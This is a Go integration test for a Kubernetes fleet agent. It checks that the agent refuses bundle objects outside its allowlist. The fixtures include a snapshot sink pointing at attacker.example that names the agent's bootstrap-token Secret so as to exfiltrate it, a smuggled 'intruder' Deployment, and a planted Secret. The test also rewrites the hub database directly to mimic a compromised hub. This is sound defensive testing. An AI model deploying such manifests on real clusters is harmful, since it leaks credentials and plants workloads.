package fleet

import (
	"context"
	"fmt"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	kollectv1 "kollect.dev/api/v1alpha1"
	fleetv1 "kollect.dev/proto/gen/kollect/fleet/v1"
	"kollect.dev/testenv"
)

const allowedProfile = `apiVersion: kollect.dev/v1alpha1
kind: KollectProfile
metadata: {name: allowed}
spec:
  target: {version: v1, kind: ConfigMap}
  attributes:
    - {name: color, jsonPath: "{.data.color}", optional: true, description: "%s"}
`

const outsideProfile = `---
apiVersion: kollect.dev/v1alpha1
kind: KollectProfile
metadata: {name: outside, namespace: team-x}
spec:
  target: {version: v1, kind: ConfigMap}
  attributes:
    - {name: color, jsonPath: "{.data.color}"}
`

// besideTheCredentials is a sink placed in the agent's own namespace, naming the agent's
// bootstrap-token Secret: admitted, its first probe would send the token to the bundle
// author's server. The agent's namespace is never open to bundles, whatever --hub-namespaces.
const besideTheCredentials = `---
apiVersion: kollect.dev/v1alpha1
kind: KollectSnapshotSink
metadata: {name: steal, namespace: kollect-system}
spec:
  type: git
  git:
    url: https://attacker.example/r.git
    secretRef: {name: kollect-hub-bootstrap}
`

// smuggled is what the hub's API refuses to store (not kollect.dev kinds) and what a
// compromised or buggy hub could still send: the agent's allowlist is the last line.
const smuggled = `---
apiVersion: apps/v1
kind: Deployment
metadata: {name: intruder, namespace: kollect-fleet}
spec:
  selector: {matchLabels: {app: intruder}}
  template:
    metadata: {labels: {app: intruder}}
    spec: {containers: [{name: c, image: example.com/intruder}]}
---
apiVersion: v1
kind: Secret
metadata: {name: planted, namespace: kollect-fleet}
stringData: {token: planted}
`

// TestAllowlistRefusals: the shipped agent, started with --hub-namespaces kollect-fleet,
// gets a bundle revision holding a Deployment, a Secret (both written into the hub's store
// behind its API, which refuses them), a KollectProfile in a namespace outside its allowlist
// and a sink in the agent's own namespace that names its bootstrap-token Secret. It applies the one allowed object, refuses the others by name in its heartbeat
// (which the dashboard's cluster page shows), the hub shows the cluster out of sync, and the
// kube-apiserver's own request counter shows no write of a Deployment or Secret meanwhile.
func TestAllowlistRefusals(t *testing.T) {
	t.Parallel() // its own control planes, hub and ports: it waits alongside the others
	ctx := context.Background()
	work := t.TempDir()
	h, admin, token := startHubWithToken(t, work, 1)
	cps, err := testenv.StartN("allow", 1, testenv.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = testenv.StopAll(cps) })
	cp := cps[0]
	// team-x exists: a refusal must come from the allowlist, not from a missing namespace.
	if err := cp.Client.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "team-x"}}); err != nil {
		t.Fatal(err)
	}

	selector := &fleetv1.LabelSelector{MatchLabels: map[string]string{"env": "allow"}}
	if _, err := admin.ApplyBundle(ctx, connect.NewRequest(&fleetv1.ApplyBundleRequest{Name: "restricted",
		Manifests: fmt.Sprintf(allowedProfile, "first"), ClusterSelector: selector})); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.ApplyBundle(ctx, connect.NewRequest(&fleetv1.ApplyBundleRequest{Name: "restricted",
		Manifests: fmt.Sprintf(allowedProfile, "second") + smuggled, ClusterSelector: selector})); err == nil ||
		!strings.Contains(err.Error(), "Deployment") {
		t.Fatalf("the hub's API stored a Deployment: %v", err)
	}
	startAgentBinary(t, bins.agent, cp, h, token, "env=allow", "--hub-namespaces", "kollect-fleet")
	waitApplied(t, h, cp.Name, "restricted", 1)

	// Revision 2, held, then rewritten in the store with what the API refused, and handed
	// to the cluster there.
	if _, err := admin.ApplyBundle(ctx, connect.NewRequest(&fleetv1.ApplyBundleRequest{Name: "restricted",
		Manifests: fmt.Sprintf(allowedProfile, "second") + outsideProfile + besideTheCredentials, ClusterSelector: selector, Hold: true})); err != nil {
		t.Fatal(err)
	}
	before, err := cp.Writes(ctx, "deployments", "secrets")
	if err != nil {
		t.Fatal(err)
	}
	if before == 0 {
		t.Fatal("the apiserver counted no write of a Secret, not even the bootstrap token's: the counter reads nothing")
	}
	sqlite(t, filepath.Join(work, "data", "hub.db"),
		"UPDATE bundle_revisions SET manifests = manifests || ? WHERE bundle = 'restricted' AND revision = 2", smuggled,
		"UPDATE cluster_bundles SET desired_revision = 2 WHERE bundle = 'restricted'",
		"UPDATE hub_state SET value = value + 1 WHERE key = 'config_epoch'")

	want := map[string]string{
		"Deployment kollect-fleet/intruder":        "is not a Kollect kind",
		"Secret kollect-fleet/planted":             "is not a Kollect kind",
		"KollectProfile team-x/outside":            "namespace team-x is not in the agent's allowlist (kollect-fleet)",
		"KollectSnapshotSink kollect-system/steal": "namespace kollect-system is the agent's own",
	}
	var objects []*fleetv1.ObjectResult
	eventually(t, 60*time.Second, "revision 2's refusals in the heartbeat", func() (bool, string) {
		c, err := admin.GetCluster(ctx, connect.NewRequest(&fleetv1.GetClusterRequest{Name: cp.Name}))
		if err != nil {
			return false, err.Error()
		}
		for _, b := range c.Msg.GetStatus().GetBundles() {
			if b.GetBundle() == "restricted" && b.GetRevision() == 2 {
				objects = b.GetObjects()
				return true, ""
			}
		}
		return false, c.Msg.GetStatus().String()
	})
	var got []string
	for _, o := range objects {
		ref := o.GetObject()
		name := fmt.Sprintf("%s %s/%s", ref.GetKind(), ref.GetNamespace(), ref.GetName())
		got = append(got, name+" "+o.GetResult().String()+": "+o.GetMessage())
		if reason, ok := want[name]; ok {
			if o.GetResult() != fleetv1.ApplyResult_APPLY_RESULT_REFUSED || !strings.Contains(o.GetMessage(), reason) {
				t.Errorf("%s: %s %q, want REFUSED with %q", name, o.GetResult(), o.GetMessage(), reason)
			}
			delete(want, name)
		} else if name != "KollectProfile kollect-fleet/allowed" || o.GetResult() != fleetv1.ApplyResult_APPLY_RESULT_APPLIED {
			t.Errorf("unexpected result %s %s", name, o.GetResult())
		}
	}
	sort.Strings(got)
	if len(want) > 0 {
		t.Errorf("not reported: %v; the heartbeat has:\n%s", want, strings.Join(got, "\n"))
	}
	t.Logf("heartbeat of revision 2:\n%s", strings.Join(got, "\n"))

	// Nothing refused was applied: the kube-apiserver counted no write of a Deployment or
	// a Secret from before the store was rewritten until the agent reported, and none exists.
	after, err := cp.Writes(ctx, "deployments", "secrets")
	if err != nil {
		t.Fatal(err)
	}
	if after != before {
		t.Errorf("the kube-apiserver served %d writes of deployments or secrets while the agent refused them", after-before)
	}
	for _, o := range []client.Object{
		&appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-fleet", Name: "intruder"}},
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-fleet", Name: "planted"}},
		&kollectv1.KollectProfile{ObjectMeta: metav1.ObjectMeta{Namespace: "team-x", Name: "outside"}},
		&kollectv1.KollectSnapshotSink{ObjectMeta: metav1.ObjectMeta{Namespace: "kollect-system", Name: "steal"}},
	} {
		if err := cp.Client.Get(ctx, client.ObjectKeyFromObject(o), o); !apierrors.IsNotFound(err) {
			t.Errorf("%T %s: %v, want NotFound", o, client.ObjectKeyFromObject(o), err)
		}
	}
	allowed := &kollectv1.KollectProfile{}
	if err := cp.Client.Get(ctx, client.ObjectKey{Namespace: "kollect-fleet", Name: "allowed"}, allowed); err != nil ||
		allowed.Spec.Attributes[0].Description != "second" {
		t.Errorf("the allowed object of revision 2 was not applied: %v %+v", err, allowed.Spec.Attributes)
	}

	// The hub counts the refusals as failed objects and does not call the cluster in sync.
	c, err := admin.GetCluster(ctx, connect.NewRequest(&fleetv1.GetClusterRequest{Name: cp.Name}))
	if err != nil {
		t.Fatal(err)
	}
	if cl := c.Msg.GetCluster(); cl.GetConfigInSync() || len(cl.GetBundles()) != 1 || cl.GetBundles()[0].GetFailedObjects() != 4 {
		t.Errorf("cluster with refused objects: in sync %v, bundles %v", cl.GetConfigInSync(), cl.GetBundles())
	}
}

// waitApplied waits until the hub records the cluster holding a bundle's revision.
func waitApplied(t *testing.T, h *hub, cluster, bundle string, revision int64) {
	t.Helper()
	eventually(t, 60*time.Second, fmt.Sprintf("%s holding %s revision %d", cluster, bundle, revision), func() (bool, string) {
		c, err := h.fleet(h.adminToken).GetCluster(context.Background(), connect.NewRequest(&fleetv1.GetClusterRequest{Name: cluster}))
		if err != nil {
			return false, err.Error()
		}
		for _, b := range c.Msg.GetCluster().GetBundles() {
			if b.GetBundle() == bundle && b.GetAppliedRevision() == revision {
				return true, ""
			}
		}
		return false, fmt.Sprint(c.Msg.GetCluster().GetBundles())
	})
}

// sqlite runs statements on an SQLite database with Debian's python3 (its sqlite3 module),
// beside the hub that holds it open. A statement's "?" takes the next argument that follows
// it in stmts (an argument is any element after a statement that contains a "?").
func sqlite(t *testing.T, db string, stmts ...string) {
	t.Helper()
	script := `import sqlite3, sys
db = sqlite3.connect(sys.argv[1], timeout=30)
args = sys.argv[2:]
i = 0
while i < len(args):
    stmt = args[i]; i += 1
    params = []
    for _ in range(stmt.count("?")):
        params.append(args[i]); i += 1
    db.execute(stmt, params)
db.commit()
`
	out, err := exec.Command("/usr/bin/python3", append([]string{"-c", script, db}, stmts...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("python3 sqlite3 on %s: %v\n%s", db, err, out)
	}
}
